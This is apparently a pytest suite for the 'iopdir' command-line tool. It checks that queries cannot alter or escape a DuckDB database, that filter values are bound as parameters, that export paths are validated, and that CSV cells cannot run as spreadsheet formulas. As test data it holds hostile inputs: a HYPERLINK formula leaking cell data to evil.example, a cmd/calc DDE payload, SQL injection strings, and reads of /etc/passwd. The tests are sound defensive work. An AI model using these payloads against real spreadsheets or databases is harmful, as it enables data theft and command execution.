"""Injection: `iopdir query` cannot modify or escape the database, filters are bound parameters,
export paths are checked, and CSV cells never become spreadsheet formulas.

Every refused attempt must leave the database file byte for byte as it was (and its content hash
too), write no file anywhere, and say why in one message (exit 2), never a traceback.
"""

import csv
import hashlib
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest

from flows.cli import main
from pipeline.flags.store import compute_flags
from pipeline.link.store import link_facilities
from pipeline.normalize import run as normalize
from pipeline.outputs.tabular import EXPORT_MARKER, ExportPathError, check_out_dir, export_files
from pipeline.sources.samhsa.codes import CodeReference
from pipeline.store.queries import list_changes, list_flags
from schemas.listing import Listing
from schemas.raw import RawRecord
from tests.crash_load import content_hash
from tests.helpers import normalize_and_load, program_normalizer, program_records, read_items, write_items

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _located_program(record: RawRecord, codes: CodeReference, run_id: str) -> Listing:
    """A program page with coordinates (a negative longitude: a number that starts with '-')."""
    return program_normalizer(record, codes, run_id).model_copy(update={"latitude": 37.54, "longitude": -77.44})


@pytest.fixture(scope="module")
def db(fixture_crawl: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The fixture crawl plus program pages whose names are formulas; loaded, linked, flagged."""
    work = tmp_path_factory.mktemp("injection")
    pages = program_records(
        {
            HYPERLINK: ("iop", "Monday through Friday, 9 a.m. to 3 p.m."),
            "+1 Recovery": ("iop", "Two evenings a week for two hours."),
            "-2 Wellness": ("iop", "Three evenings a week, three hours each."),
            "@SUM(A1:A9) Clinic": ("php", "Three days a week, three hours a day."),
        }
    )
    items = read_items(fixture_crawl / "items.jsonl") + pages
    path = work / "i.duckdb"
    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(normalize.LISTING_NORMALIZERS, "program_text", _located_program)
        normalize_and_load(write_items(work / "crawl" / "items.jsonl", items), path, "r1")
    link_facilities(path, "r1")
    compute_flags(path, "r1")
    yield path


def _file_digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# Each statement, and a part of the reason DuckDB gives (after the CLI's own words).
REFUSED = [
    # writes
    ("DELETE FROM listing_records", "read-only"),
    ("UPDATE listing_records SET active = false", "read-only"),
    ("INSERT INTO flag_reviews SELECT * FROM flag_reviews", "read-only"),
    ("DROP TABLE flag_records", "read-only"),
    ("DROP VIEW listings", "read-only"),
    ("CREATE TABLE x (a INT)", "read-only"),
    ("CREATE OR REPLACE VIEW listings AS SELECT 1 AS a", "read-only"),
    ("CREATE MACRO m(x) AS x", "read-only"),
    ("CREATE SEQUENCE s", "read-only"),
    ("ALTER TABLE listing_records ADD COLUMN x INT", "read-only"),
    ("ALTER TABLE listing_records RENAME TO y", "read-only"),
    ("COMMENT ON TABLE runs IS 'x'", "read-only"),
    ("TRUNCATE listing_records", "read-only"),
    ("BEGIN; DELETE FROM listing_records; COMMIT", "read-only"),
    # several statements: the harmless first one does not carry the others through
    ("SELECT 1; DELETE FROM listing_records", "read-only"),
    ("CREATE TEMP TABLE t AS SELECT 1; DROP TABLE listing_records", "read-only"),
    ("SELECT 1; ATTACH '{tmp}/o.duckdb' AS o", "disabled by configuration"),
    # other files
    ("ATTACH '{tmp}/other.duckdb' AS other", "disabled by configuration"),
    ("ATTACH '{db}' AS w (READ_WRITE)", "already attached"),
    ("ATTACH ':memory:' AS m", "read-only mode"),
    ("COPY listing_records TO '{tmp}/x.csv'", "disabled by configuration"),
    ("COPY (SELECT * FROM listings) TO '{tmp}/x.parquet' (FORMAT parquet)", "disabled by configuration"),
    ("EXPORT DATABASE '{tmp}/dump'", "disabled by configuration"),
    ("COPY listing_records FROM '{tmp}/in.csv'", "disabled by configuration"),
    ("SELECT * FROM read_csv('/etc/passwd')", "disabled by configuration"),
    ("SELECT * FROM read_text('/etc/passwd')", "disabled by configuration"),
    ("SELECT * FROM glob('/etc/*')", "disabled by configuration"),
    ("SELECT * FROM 'https://example.org/x.csv'", "disabled by configuration"),
    ("CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')", "disabled by configuration"),
    # extensions
    ("INSTALL httpfs", "disabled by configuration"),
    ("FORCE INSTALL httpfs", "disabled by configuration"),
    ("LOAD httpfs", "disabled through configuration"),
    ("LOAD '{tmp}/evil.duckdb_extension'", "disabled through configuration"),
    # settings: locked, so none of the above can be switched back on
    ("SET enable_external_access = true", "locked"),
    ("RESET enable_external_access", "locked"),
    ("SET GLOBAL enable_external_access = true", "locked"),
    ("SET lock_configuration = false", "locked"),
    ("SET memory_limit = '100GB'", "locked"),
    ("SET temp_directory = '{tmp}/spill'", "locked"),
    ("SET log_query_path = '{tmp}/queries.log'", "locked"),
    ("PRAGMA enable_profiling = 'json'", "locked"),
    ("PRAGMA profiling_output = '{tmp}/profile.json'", "locked"),
    ("PRAGMA force_checkpoint", "locked"),
    ("CALL enable_logging()", "locked"),
]


@pytest.mark.parametrize(("sql", "reason"), REFUSED, ids=[sql for sql, _ in REFUSED])
def test_query_cannot_modify_or_escape(
    db: Path, tmp_path: Path, sql: str, reason: str, capsys: pytest.CaptureFixture[str]
) -> None:
    before_file, before_content = _file_digest(db), content_hash(db)
    (tmp_path / "in.csv").write_text("listing_id\nx\n")
    statement = sql.replace("{tmp}", str(tmp_path)).replace("{db}", str(db))
    assert main(["query", statement, "--db", str(db)]) == 2
    captured = capsys.readouterr()
    assert captured.err.startswith("iopdir query: ") and reason in captured.err, captured.err
    assert "Traceback" not in captured.err and captured.out == ""
    assert _file_digest(db) == before_file and content_hash(db) == before_content
    assert not Path(f"{db}.wal").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]  # nothing written anywhere


@pytest.mark.parametrize(
    "sql",
    ["CHECKPOINT", "VACUUM", "PRAGMA database_size", "CREATE TEMP TABLE t AS SELECT 1 AS a; SELECT * FROM t"],
)
def test_harmless_statements_run_and_change_nothing(db: Path, sql: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Statements DuckDB allows on a read-only file: no-ops, or a temp table of this session only."""
    before = _file_digest(db)
    assert main(["query", sql, "--db", str(db)]) == 0
    capsys.readouterr()
    assert _file_digest(db) == before


INJECTED = ["VA' OR 1=1 --", "VA' OR '1'='1", "x'); DROP TABLE flag_records; --", "%", "' UNION SELECT * FROM flags --"]


@pytest.mark.parametrize("value", INJECTED)
def test_flag_filters_are_bound_parameters(db: Path, value: str, capsys: pytest.CaptureFixture[str]) -> None:
    before = content_hash(db)
    assert main(["flags", "--db", str(db), "--all", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)  # there are flags to leak
    # The command line refuses a state, rule or source that does not exist (exit 2, nothing printed) ...
    for command in (["flags", "--all", "--state"], ["flags", "--all", "--rule"], ["changes", "--source"]):
        assert main([*command, value, "--db", str(db)]) == 2
        captured = capsys.readouterr()
        assert captured.out == "" and captured.err.count("\n") == 1
    # ... and the queries behind it bind any value as a parameter: it matches nothing.
    with duckdb.connect(str(db), read_only=True) as con:
        assert list_flags(con, state=value, include_inactive=True).rows == []
        assert list_flags(con, rule_id=value, include_inactive=True).rows == []
        assert list_flags(con, sources=[value], include_inactive=True).rows == []
        assert list_changes(con, source=value).rows == [] and list_changes(con, sources=[value]).rows == []
    assert content_hash(db) == before


def test_flag_filters_still_filter(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["flags", "--state", "va", "--db", str(db), "--format", "json"]) == 0
    flags = json.loads(capsys.readouterr().out)
    assert flags and {f["state"] for f in flags} == {"VA"}
    rule = flags[0]["rule_id"]
    assert main(["flags", "--rule", rule, "--db", str(db), "--format", "json"]) == 0
    assert {f["rule_id"] for f in json.loads(capsys.readouterr().out)} == {rule}


@pytest.mark.parametrize("fmt", ["csv", "parquet", "hsds"])
def test_export_state_filter_is_a_bound_parameter(db: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / "out"
    assert main(["export", fmt, str(out), "--db", str(db), "--state", "VA' OR 1=1 --"]) == 0
    with duckdb.connect() as con:
        for path in sorted(out.iterdir()):
            if path.suffix == ".csv":
                rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
                assert len(rows) == 1, path.name  # the header only
            elif path.suffix == ".parquet":
                assert con.execute("SELECT count(*) FROM read_parquet(?)", [str(path)]).fetchone()[0] == 0
            elif path.stem in {"organization", "service", "location", "address", "phone", "schedule"}:
                assert json.loads(path.read_text(encoding="utf-8")) == [], path.name


# --- export paths --------------------------------------------------------------------------------


@pytest.fixture
def export_db(db: Path, tmp_path: Path) -> Path:
    """A copy of the database in its own folder, so its neighbours can be made up freely."""
    path = tmp_path / "data" / "iop.duckdb"
    path.parent.mkdir()
    shutil.copyfile(db, path)
    return path


def _refused(export_db: Path, out: str, capsys: pytest.CaptureFixture[str], *extra: str, fmt: str = "csv") -> str:
    before = _file_digest(export_db)
    assert main(["export", fmt, out, "--db", str(export_db), *extra]) == 2
    err = capsys.readouterr().err
    assert err.startswith("iopdir export: ") and "Traceback" not in err
    assert _file_digest(export_db) == before
    return err


@pytest.mark.parametrize("fmt", ["csv", "parquet", "hsds"])
def test_export_refuses_the_database_and_its_files(
    export_db: Path, fmt: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "is (or is inside) the database file" in _refused(export_db, str(export_db), capsys, fmt=fmt)
    assert "is (or is inside) the database file" in _refused(export_db, f"{export_db}/out", capsys, fmt=fmt)
    assert "write-ahead log" in _refused(export_db, f"{export_db}.wal", capsys, fmt=fmt)
    assert "spill folder" in _refused(export_db, f"{export_db}.tmp/out", capsys, "--force", fmt=fmt)
    link = export_db.parent / "link-to-db"
    link.symlink_to(export_db)
    assert "is (or is inside) the database file" in _refused(export_db, str(link), capsys, "--force", fmt=fmt)
    assert not Path(f"{export_db}.wal").exists() and not Path(f"{export_db}.tmp").exists()


def test_export_refuses_to_replace_the_database_with_an_export_file(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A database that happens to be named like an export file, in the export's folder."""
    out = tmp_path / "out"
    out.mkdir()
    named = out / "listings.csv"
    shutil.copyfile(db, named)
    assert "would replace the database file" in _refused(named, str(out), capsys, "--force")


def test_export_refuses_a_nul_byte_and_files_where_folders_belong(
    export_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "NUL byte" in _refused(export_db, f"{tmp_path}/out\0/etc", capsys)
    afile = tmp_path / "notes.txt"
    afile.write_text("mine\n")
    assert "exists and is not a folder" in _refused(export_db, str(afile), capsys, "--force")
    assert "is a file, not a folder" in _refused(export_db, f"{afile}/out", capsys, "--force")
    assert afile.read_text() == "mine\n"
    assert "the output path is empty" in _refused(export_db, "", capsys)


def test_export_into_a_folder_of_other_files_needs_force(
    export_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.docx").write_text("do not touch\n")
    err = _refused(export_db, str(out), capsys)
    assert "not an earlier export" in err and "--force" in err
    assert sorted(p.name for p in out.iterdir()) == ["thesis.docx"]
    assert main(["export", "csv", str(out), "--db", str(export_db), "--force"]) == 0
    assert {"thesis.docx", "listings.csv", EXPORT_MARKER} <= {p.name for p in out.iterdir()}
    assert (out / "thesis.docx").read_text() == "do not touch\n"


def test_export_again_into_an_earlier_export_or_an_empty_folder(
    export_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["export", "csv", str(empty), "--db", str(export_db)]) == 0
    assert json.loads((empty / EXPORT_MARKER).read_text())["format"] == "csv"
    for fmt in ("csv", "parquet", "hsds"):  # the marker makes it an export folder, whatever the format
        assert main(["export", fmt, str(empty), "--db", str(export_db)]) == 0
    # An export folder from before the marker: only export files in it.
    old = tmp_path / "old"
    old.mkdir()
    (old / "listings.csv").write_text("x\n")
    (old / "service.json").write_text("[]\n")
    assert main(["export", "parquet", str(old), "--db", str(export_db)]) == 0
    assert main(["export", "csv", str(tmp_path / "new" / "deeper"), "--db", str(export_db)]) == 0
    capsys.readouterr()


def test_export_files_checks_the_folder_too(export_db: Path, tmp_path: Path) -> None:
    """The library function refuses what the CLI refuses (other callers get the same safety)."""
    with pytest.raises(ExportPathError, match="database file"):
        export_files(export_db, export_db, "csv")
    with pytest.raises(ExportPathError, match="NUL"):
        check_out_dir(export_db, "a\0b", "parquet")


# --- CSV formula neutralization ------------------------------------------------------------------

DANGEROUS = {
    "name": "=1+1",
    "name2": "+SUM(A1)",
    "street": "-2+3",
    "city": "@A1",
    "schedule_text": "\t=cmd|' /C calc'!A0",
    "website": '\r=HYPERLINK("http://evil.example")',
}


def test_csv_neutralizes_every_formula_start_and_keeps_numbers(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Cells written as stored: every text cell starting with = + - @ tab or CR gets a leading '."""
    copy = tmp_path / "cells.duckdb"
    shutil.copyfile(db, copy)
    # Straight into the table: the exporter must not rely on normalization having cleaned the text.
    with duckdb.connect(str(copy)) as con:
        assignments = ", ".join(f"{column} = ?" for column in DANGEROUS)
        con.execute(
            f"UPDATE listing_records SET {assignments}, latitude = -33.5, longitude = -70.25, hours_min = -0.0 "
            "WHERE name = 'Shelby County Treatment Center'",
            list(DANGEROUS.values()),
        )
    assert main(["export", "csv", str(tmp_path / "out"), "--db", str(copy)]) == 0
    capsys.readouterr()
    with (tmp_path / "out" / "listings.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    row = next(r for r in rows if r["name"] == "'=1+1")
    for column, value in DANGEROUS.items():
        assert row[column] == "'" + value, column
    # Numbers are numbers, not text: a negative one keeps its minus and no apostrophe.
    assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.25")
    assert float(row["hours_min"]) == 0.0
    for r in rows:
        for column, cell in r.items():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                # Numbers, and E.164 phone numbers (`+` and digits), which spreadsheets read as numbers.
                assert column in {"latitude", "longitude", "hours_min", "hours_max", "phone"}, (column, cell)
                float(cell)


def test_csv_neutralizes_a_hyperlink_name_in_every_file(db: Path, tmp_path: Path) -> None:
    """The name a program page gave, as the pipeline stored it, in listings, facilities and flags."""
    assert main(["export", "csv", str(tmp_path / "out"), "--db", str(db)]) == 0
    text = {name: (tmp_path / "out" / f"{name}.csv").read_text(encoding="utf-8") for name in ("listings", "flags")}
    for name in ("listings", "facilities", "flags"):
        with (tmp_path / "out" / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
            names = {r["name"] for r in csv.DictReader(handle)}
        # Raised by the flag rules too (an IOP of 30 h, one of 4 h, a PHP of 9 h), so in flags.csv.
        assert {"'" + HYPERLINK, "'+1 Recovery", "'@SUM(A1:A9) Clinic"} <= names, name
        assert not {HYPERLINK, "+1 Recovery", "@SUM(A1:A9) Clinic"} & names, name
    # In the file itself: the cell starts with the apostrophe, inside the CSV quoting.
    assert '"\'=HYPERLINK(""http://evil.example/' in text["listings"]
    assert '"\'=HYPERLINK(""http://evil.example/' in text["flags"]
    with (tmp_path / "out" / "listings.csv").open(encoding="utf-8", newline="") as handle:
        located = [r for r in csv.DictReader(handle) if r["name"] == "'-2 Wellness"]
    assert located and located[0]["longitude"] == "-77.44"  # the number stays a number


@pytest.mark.parametrize("command", [["flags", "--all"], ["changes"]])
def test_printed_csv_neutralizes_formulas(db: Path, command: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    """`flags` and `changes` print CSV by the export's rule: the program named by a formula gets its '."""
    assert main([*command, "--db", str(db), "--format", "csv"]) == 0
    rows = list(csv.DictReader(capsys.readouterr().out.splitlines()))
    names = {r["name"] for r in rows}
    assert {"'" + HYPERLINK, "'+1 Recovery", "'@SUM(A1:A9) Clinic"} <= names
    assert not {HYPERLINK, "+1 Recovery", "@SUM(A1:A9) Clinic"} & names
    risky = [c for r in rows for c in r.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(re.fullmatch(r"\+[0-9]+|-?[0-9.]+", c) for c in risky), risky
